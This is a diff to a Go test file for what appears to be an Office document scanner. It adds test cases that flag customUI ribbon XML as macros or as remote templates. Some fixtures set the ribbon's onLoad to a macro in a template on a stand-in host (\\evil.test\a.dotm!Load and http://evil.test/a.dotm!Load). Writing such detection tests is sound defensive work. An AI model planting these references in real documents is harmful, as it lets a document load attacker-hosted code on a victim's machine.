@@ -159,6 +159,7 @@ func TestRelationships(t *testing.T) {
 }
 
 func TestParts(t *testing.T) {
+	const ribbonXML = `<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="%s"><ribbon/></customUI>`
 	project := cfb + strings.Repeat("\x00", 600) + string(wide("_VBA_PROJECT"))
 	check(t, []row{
 		{"macros in a deep folder", word(t, "", "a/b/VBAPROJECT.BIN", "x"), "macros"},
@@ -183,6 +184,10 @@ func TestParts(t *testing.T) {
 		{"model", word(t, "", "xl/connections.xml", `<connections xmlns="http://schemas.openxmlformats.org/a"><connection><dbPr connection="Data Model Connection" command="Model"/></connection></connections>`), ""},
 		{"web query", word(t, "", "xl/connections.xml", `<connections xmlns="http://schemas.openxmlformats.org/a"><connection><webPr url="http://evil.test/"/></connection></connections>`), "remote-object"},
 		{"web extension", word(t, "", "word/webextensions/webextension1.xml", `<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11"/>`), "remote-object"},
+		{"ribbon", word(t, "", "customUI/customUI.xml", fmt.Sprintf(ribbonXML, "Load")), ""},
+		{"ribbon with macros", word(t, "", "customUI/customUI.xml", fmt.Sprintf(ribbonXML, "Load"), "word/vbaProject.bin", "x"), "macros"},
+		{"ribbon that calls another document", word(t, "", "customUI/customUI14.xml", fmt.Sprintf(ribbonXML, `\\evil.test\a.dotm!Load`)), "remote-template"},
+		{"ribbon that calls a document of the Web", word(t, "", "customUI/x.xml", fmt.Sprintf(ribbonXML, "http://evil.test/a.dotm!Load")), "remote-template"},
 		{"embedding", word(t, "", "ppt/embeddings/a.xlsx", "PK"), "embedded-object"},
 		{"compound file", word(t, "", "word/media/a.png", cfb+"x"), "embedded-object"},
 		{"VML", word(t, "", "xl/drawings/a.vml", `<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://evil.test/a.png"/><br></xml>`), "remote-object"},
